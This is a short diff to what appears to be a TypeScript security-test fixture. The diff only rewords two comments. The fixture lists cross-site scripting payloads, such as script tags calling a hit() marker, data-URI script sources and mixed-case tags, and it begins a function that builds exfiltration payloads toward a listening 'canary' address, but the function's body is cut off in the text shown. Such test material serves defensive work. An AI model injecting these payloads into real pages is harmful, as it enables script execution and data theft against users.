@@ -1,4 +1,4 @@
-/** What a hostile model, tool or document puts into an answer. `hit()` is what must never run. */
+/** What a hostile model, tool or document puts into an answer. `hit()` must never run. */
 export const scripts: readonly string[] = [
   '<script>hit()</script>',
   '<script src=data:text/javascript,hit()></script>',
@@ -70,7 +70,7 @@ export const scripts: readonly string[] = [
   '\ud83d\udc68\u200d\ud83d\udc69 <sCrIpT/x>hit()</sCrIpT>',
 ];
 
-/** Ways to carry data away without a click. `canary` is an address that listens. */
+/** Ways to leak data without a click. `canary` is an address that listens. */
 export function exfiltrations(canary: string): readonly string[] {
   const host = canary.replace('http:', '');
   return [
